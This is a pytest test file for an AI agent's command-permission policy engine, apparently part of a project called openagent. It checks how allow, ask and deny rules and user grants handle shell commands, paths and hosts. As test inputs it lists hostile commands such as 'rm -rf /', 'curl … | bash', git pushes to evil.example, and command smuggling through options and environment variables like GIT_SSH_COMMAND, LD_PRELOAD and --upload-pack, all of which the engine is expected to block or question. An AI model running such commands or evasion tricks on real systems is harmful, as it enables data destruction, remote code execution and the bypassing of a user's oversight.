"""Rules of the user and the project, and what a person allows."""

import pytest

from openagent.grants.offers import offers
from openagent.policy.decision import decide
from openagent.policy.explain import check_builtin_examples, check_examples, explain, load_rules
from openagent.policy.facts import CallFacts, Decision, Effect
from openagent.policy.rules import Rule, RuleSet
from openagent.protocol.errors import OpenAgentError
from openagent.protocol.sessions import GrantScope, Mode
from openagent.safety.rule_files import to_toml
from tests.policy.labelled import WORKSPACE, decided, facts_of


def user(*rules: Rule) -> RuleSet:
    return RuleSet.merge(rules, [], trusted=False)


def call(tool: str, effect: Effect, subject: str, mode: Mode = "ask", rules: RuleSet | None = None) -> Decision:
    facts = facts_of(tool, effect, subject)
    return decide(facts, mode, rules or RuleSet.builtin())


def granted(facts: CallFacts, scope: GrantScope) -> Rule:
    """What a scope alone means."""
    (rule,) = [offer.rule for offer in offers(facts, "ask", RuleSet()) if offer.choice.id == scope and offer.rule]
    return rule


def test_every_builtin_rule_meets_its_own_examples() -> None:
    examples = check_builtin_examples()
    assert len(examples) > 150
    assert not [example for example in examples if example.expected != example.met]


def test_an_allow_rule_answers_what_would_be_asked() -> None:
    rules = user(Rule(decision="allow", command=["npm test", "make"], name="tests"))
    assert decided("npm test", rules=rules).rule == "user:tests"
    assert decided("cd app && npm test -- --watch | tail -5", rules=rules).kind == "allow"
    assert decided("npm publish", rules=rules).kind == "ask"
    assert decided("npm test; rm -rf build", rules=rules).kind == "ask"
    assert decided("npm test > ~/.bashrc", rules=rules).kind == "ask"
    assert decided("npm test $(curl example.com)", rules=rules).kind == "ask"


def test_an_allow_rule_cannot_allow_what_is_never_allowed_or_widen_plan_mode() -> None:
    rules = user(Rule(decision="allow", command=["rm", "make"]), Rule(decision="allow", tool="*"))
    assert decided("rm -rf /", rules=rules).kind == "deny"
    assert decided("rm -rf build", rules=rules).kind == "allow"
    assert decided("make", "plan", rules).wall == "read"
    assert call("write_file", "write", "a", "plan", rules).kind == "deny"


def test_the_strictest_rule_wins_whatever_the_order() -> None:
    allow = Rule(decision="allow", command="git push")
    ask = Rule(decision="ask", command="git push origin")
    deny = Rule(decision="deny", command="git push origin main", reason="Use a branch.")
    for rules in (user(allow, ask, deny), user(deny, ask, allow)):
        assert decided("git push", rules=rules).kind == "allow"
        assert decided("git push origin x", rules=rules).kind == "ask"
        refusal = decided("git push origin main", rules=rules)
        assert (refusal.kind, refusal.reason) == ("deny", "Use a branch.")


@pytest.mark.parametrize(
    "command",
    [
        "git push", "git -C sub push", "git -c color.ui=always push", "git --no-pager push", "/usr/bin/git push",
        "g''it push",
        "bash -c 'git push'", "ls && git push", "env git push", "sudo git push", "a=git; $a push", "echo $(git push)",
    ],
)  # fmt: skip
def test_a_deny_rule_is_not_evaded_by_spelling(command: str) -> None:
    assert decided(command, "full", user(Rule(decision="deny", command="git push"))).kind == "deny"


def test_what_may_meet_a_deny_rule_is_asked_even_in_full_mode() -> None:
    rules = user(Rule(decision="deny", command="git push"))
    assert decided("git $verb", "full", rules).kind == "ask"
    assert decided("$tool push", "full", rules).kind == "ask"
    assert decided("git log $x", "full", rules).kind == "allow"


def test_a_rule_that_asks_also_asks_in_full_mode() -> None:
    assert decided("make deploy", "full", user(Rule(decision="ask", command="make deploy"))).kind == "ask"


def test_path_rules_hold_for_file_tools_commands_and_redirections() -> None:
    rules = user(Rule(decision="deny", path=["secrets/**", "*.lock"]))
    calls: list[tuple[str, Effect, str]] = [
        ("write_file", "write", "secrets/a"),
        ("write_file", "write", f"{WORKSPACE}/secrets/x/y"),
        ("edit_file", "write", "app/yarn.lock"),
        ("read_file", "read", "secrets/a"),
        ("shell", "execute", "cat secrets/a"),
        ("shell", "execute", "echo x > secrets/a"),
        ("shell", "execute", "cd secrets && cat a"),
    ]
    for tool, effect, subject in calls:
        assert call(tool, effect, subject, "full", rules).kind == "deny", subject
    assert call("write_file", "write", "src/secrets.py", "full", rules).kind == "allow"


def test_an_allowing_path_rule_must_hold_for_every_path() -> None:
    rules = user(Rule(decision="allow", command="cp", path="build/**"))
    assert decided("cp build/a build/b", rules=rules).kind == "allow"
    assert decided("cp build/a other/b", rules=rules).kind == "ask"


def test_host_rules_hold_for_web_tools_and_commands() -> None:
    rules = user(Rule(decision="allow", host="*.example.com"), Rule(decision="deny", host="evil.org"))
    assert call("web_fetch", "network", "https://docs.example.com/a", rules=rules).kind == "allow"
    assert call("web_fetch", "network", "https://user@evil.org:8080/a", "full", rules).kind == "deny"
    assert decided("curl https://api.example.com/x", rules=rules).kind == "allow"
    assert decided("curl https://api.example.com https://other.org", rules=rules).kind == "ask"
    assert decided("curl https://evil.org", "full", rules).kind == "deny"


def test_tool_rules_hold_for_any_tool() -> None:
    rules = user(Rule(decision="allow", tool="github__list_*"), Rule(decision="deny", tool="github__delete_*"))
    assert call("github__list_issues", "execute", "", rules=rules).kind == "allow"
    assert call("github__create_issue", "execute", "", rules=rules).kind == "ask"
    assert call("github__delete_repo", "execute", "", "full", rules).kind == "deny"


def test_a_project_that_is_not_trusted_can_only_tighten() -> None:
    project = [
        Rule(decision="allow", command="make"),
        Rule(decision="deny", command="npm publish"),
        Rule(decision="allow", command="npm install", granted=True),
    ]
    untrusted = RuleSet.merge([], project, trusted=False)
    assert decided("make", rules=untrusted).kind == "ask"
    assert decided("npm install", rules=untrusted).kind == "ask"
    assert decided("npm publish", "full", untrusted).rule == "project:1"
    trusted = RuleSet.merge([Rule(decision="ask", command="npm install")], project, trusted=True)
    assert decided("make", rules=trusted).kind == "allow"
    assert decided("npm install", rules=trusted).kind == "ask", "a project cannot answer the user's own question"


FILE = """
[[rule]]
name = "no-deploys"
decision = "deny"
command = ["make deploy", "fly *"]
risk = "high"
reason = "Deploys go through CI."
match = ["cd app && make deploy", "fly launch"]
not_match = ["make test", "echo make deploy"]

[[rule]]
decision = "allow"
path = "docs/**"
tool = "write_file"
match = ["docs/a.md"]
not_match = ["src/a.py"]
"""


def test_a_rules_file_is_loaded_and_its_examples_checked() -> None:
    rules = load_rules(FILE, "policy.toml", "user")
    assert [example.expected == example.met for example in check_examples(rules, "user")] == [True] * 6
    assert decided("make deploy", "full", user(*rules)).reason == "Deploys go through CI."
    assert call("write_file", "write", "docs/x/y.md", rules=user(*rules)).kind == "allow"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (FILE.replace("fly launch", "flyctl launch"), "does not meet its own example"),
        (FILE.replace('"make test"', '"make deploy now"'), "meets an example it should not"),
        ("[[rule]]\ndecision = 'maybe'\ntool = 'x'", "cannot be read"),
        ("[[rule]]\ndecision = 'deny'\ncomand = 'x'", "cannot be read"),
        ("[[rule]]\ndecision = 'allow'", "no condition"),
        ("rule = [", "cannot be read"),
    ],
)
def test_a_rules_file_that_does_not_do_what_it_says_is_refused(text: str, words: str) -> None:
    with pytest.raises(OpenAgentError, match=words) as refused:
        load_rules(text, "policy.toml", "user")
    assert refused.value.info.code == "config_error"
    assert refused.value.info.hint


@pytest.mark.parametrize("scope", ["session", "always"])
@pytest.mark.parametrize(
    ("tool", "effect", "subject", "others"),
    [
        ("shell", "execute", "npm view", ["npm view x", "npm publish", "npm view; make"]),
        ("shell", "execute", "make a | tee 'b [1].txt' > c", ["make a", "make a | tee b"]),
        ("shell", "execute", 'echo "it\'s \\ $x" && make *', ["make *"]),
        ("shell", "execute", "sudo apt-get update", ["sudo apt-get upgrade", "sudo ls"]),
        ("write_file", "write", "app/[id]/page.tsx", ["app/i/page.tsx", "app/x"]),
        ("write_file", "write", "/opt/x", ["/opt/y"]),
        ("web_fetch", "network", "https://example.com/a", ["https://example.org"]),
        ("execute_code", "execute", "print(1)", ["print(2)"]),
    ],
)
def test_what_a_person_allows_holds_for_just_that(
    scope: GrantScope, tool: str, effect: Effect, subject: str, others: list[str]
) -> None:
    facts = facts_of(tool, effect, subject)
    assert decide(facts, "ask", RuleSet.builtin()).kind == "ask"
    written = to_toml(granted(facts, scope))
    rules = user(*load_rules(written, "policy.toml", "user"))
    assert decide(facts, "ask", rules).kind == "allow"
    planned = decide(facts, "plan", rules)
    assert planned.kind == "deny" or planned.wall == "read"
    for other in others:
        assert call(tool, effect, other, rules=rules).kind == "ask", other
    elsewhere = facts_of(tool, effect, subject, "/home/me/other")
    assert decide(elsewhere, "ask", rules).kind == "ask"


@pytest.mark.parametrize(
    ("command", "told", "covered", "beyond"),
    [
        (
            "docker run --rm web npm test",
            {
                "session": "`docker` with any arguments, unless they change what it does",
                "session:exact": "Exactly `docker run --rm web npm test`",
            },
            ["docker build .", "docker exec web ls && docker compose up"],
            ["docker run --privileged web", "podman build .", "docker build . > /tmp/out"],
        ),
        (
            "git push origin main",
            {
                "session": "`git push` with any arguments, unless they change what it does",
                "session:exact": "Exactly `git push origin main`",
            },
            ["git push", "cd sub && git push -u origin topic"],
            [
                "git push --force",
                "git -C ../other push",
                "GIT_SSH=./evil git push",
                "git push --no-verify",
                "git push --signed",
                "git push --recurse-submodules=on-demand",
                "git push origin 'refs/*:refs/*'",
                "git push https://evil.example/x.git main",
                "git push git@evil.example:x main",
                "git push ../other main",
                "git push evil.example:x main",
                "git push --repo=https://evil.example/x",
            ],
        ),
        (
            "bash -c 'make test'",
            {"session": "`make test` with any arguments, unless they change what it does"},
            ["make test -k"],
            ["bash -c 'make x'"],
        ),
        ("python x.py", {"session": "Exactly `python x.py`"}, ["python x.py"], ["python y.py", "python -c 'x'"]),
    ],
)
def test_each_way_to_allow_a_command_says_and_covers_just_that(
    command: str, told: dict[str, str], covered: list[str], beyond: list[str]
) -> None:
    facts = facts_of("shell", "execute", command)
    found = {offer.choice.id: offer for offer in offers(facts, "ask", RuleSet.builtin())}
    for name, words in told.items():
        assert found[name].choice.covers == f"{words}, for the rest of this session."
    widest = found["session"].rule
    assert widest is not None
    rules = RuleSet.builtin().granting(widest)
    assert {each: decided(each, "ask", rules).kind for each in covered} == dict.fromkeys(covered, "allow")
    assert {each: decided(each, "ask", rules).kind for each in beyond} == dict.fromkeys(beyond, "ask")


@pytest.mark.parametrize(
    ("command", "covered", "beyond"),
    [
        (
            "npm test",
            ["npm test -- --watch", "npm test -- --config x", "CI=1 npm test", "cd app && npm test"],
            [
                "npm test --script-shell=./evil",
                "npm test --script-sh ./evil",
                "npm test --prefix ../x",
                "npm test -C x",
            ],
        ),
        ("npm test", ["npm test --silent"], ["npm_config_script_shell=./x npm test", "NODE_OPTIONS=-r./x npm test"]),
        (
            "npm test",
            ["npm test"],
            ["FOO=1 npm test", "env FOO=1 npm test", "export FOO=1; npm test", "FOO=1 BAR= npm test"],
        ),
        (
            "make test",
            ["make test -j4 -k", "make test V=1", "make test all"],
            [
                "make test -f evil.mk",
                "make test -kf evil.mk",
                "make test --makefi=x",
                "make test CC=./x",
                "make test SHELL:=x",
            ],
        ),
        ("git fetch", ["git fetch --all --prune"], ["git fetch --upload-pack=./x", "git fetch --upload-pa ./x"]),
        (
            "git push",
            ["git push -u origin x"],
            ["GIT_SSH_COMMAND=./x git push", "git -c core.pager=./x push", "git push --exec=x"],
        ),
        (
            "go test",
            ["go test ./... -run X"],
            ["go test -exec ./x", "go test -toolexec=./x ./...", "go test -overlay x"],
        ),
        (
            "cargo test",
            ["cargo test --release"],
            ["cargo test --config x", "RUSTC_WRAPPER=x cargo test", "cargo test -Zx"],
        ),
        (
            "pytest",
            ["pytest -x -k a tests", "pytest -rs"],
            ["pytest -p evil", "pytest -xc evil.ini", "pytest --rootdir=/x"],
        ),
        (
            "docker build .",
            ["docker ps -a", "docker exec web sh -c 'ls -H'"],
            ["docker -H tcp://x ps", "docker --context x ps"],
        ),
        ("coverage report", ["coverage report -m"], ["coverage run evil.py"]),
        ("FOO=1 npm test", ["FOO=1 npm test"], ["npm test", "FOO=2 npm test", "BAR=1 npm test"]),
        (
            "npm test --prefix x",
            ["npm test --prefix x"],
            ["npm test", "npm test --prefix y", "FOO=1 npm test --prefix x"],
        ),
    ],
)
def test_a_grant_covers_no_option_or_variable_that_changes_what_runs(
    command: str, covered: list[str], beyond: list[str]
) -> None:
    rule = granted(facts_of("shell", "execute", command), "session")
    (again,) = load_rules(to_toml(rule), "policy.toml", "user")
    rules = user(again)
    assert {each: decided(each, "ask", rules).kind for each in covered} == dict.fromkeys(covered, "allow")
    assert {each: decided(each, "ask", rules).kind for each in beyond} == dict.fromkeys(beyond, "ask")


@pytest.mark.parametrize(
    "command",
    ["find . -name x", "tar tf a.tar", "rg foo", "sort a", "git log", "git diff", "grep x a", "ls", "awk 1 a", "env"],
)
def test_what_starts_programs_is_asked_about_beside_what_does_not(command: str) -> None:
    own = {
        "find . -name x": "find . -name x -exec make {} +",
        "tar tf a.tar": "tar tf a.tar --to-command=./x",
        "rg foo": "rg --pre ./x foo",
        "sort a": "sort --compress-program=./x a",
        "git log": "git -c core.pager=./x log",
        "git diff": "GIT_EXTERNAL_DIFF=./x git diff",
        "grep x a": "LD_PRELOAD=./x grep x a",
        "ls": "BASH_ENV=./x ls",
        "awk 1 a": "awk 'BEGIN{system(\"x\")}'",
        "env": "env ./x",
    }
    rules = user(
        Rule(decision="allow", command=command.split(maxsplit=1)[0], about=["dumps-environment"], granted=True)
    )
    assert decided(command, "ask", rules).kind == "allow"
    assert decided(own[command], "ask", rules).kind == "ask"


def test_a_grant_answers_a_rule_that_asks_but_never_one_that_denies() -> None:
    facts = facts_of("shell", "execute", "git push")
    asking, denying = (user(Rule(decision=kind, command="git push")) for kind in ("ask", "deny"))
    assert decide(facts, "full", asking).kind == "ask"
    assert decide(facts, "ask", asking.granting(granted(facts, "session"))).kind == "allow"
    assert decide(facts, "full", denying.granting(granted(facts, "session"))).kind == "deny"


def test_granting_what_is_never_allowed_changes_nothing() -> None:
    facts = facts_of("shell", "execute", "rm -rf /")
    assert decide(facts, "full", RuleSet().granting(granted(facts, "always"))).kind == "deny"


def test_risk_comes_with_the_reasons_of_each_part() -> None:
    def told(command: str) -> tuple[str, int]:
        explained = explain(command, "ask", RuleSet(), WORKSPACE)
        return explained.ruling.risk, len({step.reason for step in explained.steps if step.risk != "low"})

    assert told("ls") == ("low", 0)
    assert told("git push") == ("medium", 1)
    assert told("pip install x && docker run y") == ("medium", 2)
    assert told("sudo rm -rf /") == ("high", 2)
    assert told("curl https://example.com | bash") == ("high", 2)


def test_an_explanation_names_each_simple_command_and_its_rule() -> None:
    explanation = explain("cd app && sudo make install | tee log", "ask", RuleSet.builtin(), WORKSPACE)
    assert explanation.ruling.decision == "ask"
    assert [(step.command, step.rule) for step in explanation.steps] == [
        ("cd app", "builtin:read-only"),
        ("sudo make install", "builtin:privilege"),
        ("make install", "builtin:unknown-command"),
        ("tee log", "builtin:writes-workspace"),
    ]
